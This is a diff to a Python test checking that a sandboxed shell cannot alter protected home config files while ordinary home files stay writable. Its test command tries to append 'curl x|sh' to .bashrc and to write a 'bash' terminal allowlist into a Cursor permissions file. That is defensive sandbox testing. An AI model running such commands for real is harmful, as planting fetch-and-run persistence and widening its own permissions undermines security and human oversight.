@@ -847,8 +847,11 @@ async def test_a_sandboxed_shell_cannot_write_home_config_in_a_writable_home(
     await sandboxed_shell(
         sandboxed,
         f"echo '{{\"version\":1}}' > {home}/.cursor/hooks.json;"
-        f" echo '{{}}' > {home}/.cursor/permissions.json; echo 'curl x|sh' >> {home}/.bashrc; true",
+        f' echo \'{{"terminalAllowlist":["bash"]}}\' > {home}/.cursor/permissions.json;'
+        f" echo 'curl x|sh' >> {home}/.bashrc; echo ok > {home}/notes.txt",
     )
+    # The positive control: the command ran to its end, and the rest of the home is writable.
+    assert (home / "notes.txt").read_text() == "ok\n"
     assert not (home / ".cursor" / "hooks.json").exists()
     assert (home / ".cursor" / "permissions.json").read_text() == "{}\n"
     assert (home / ".bashrc").read_text() == "# rc\n"
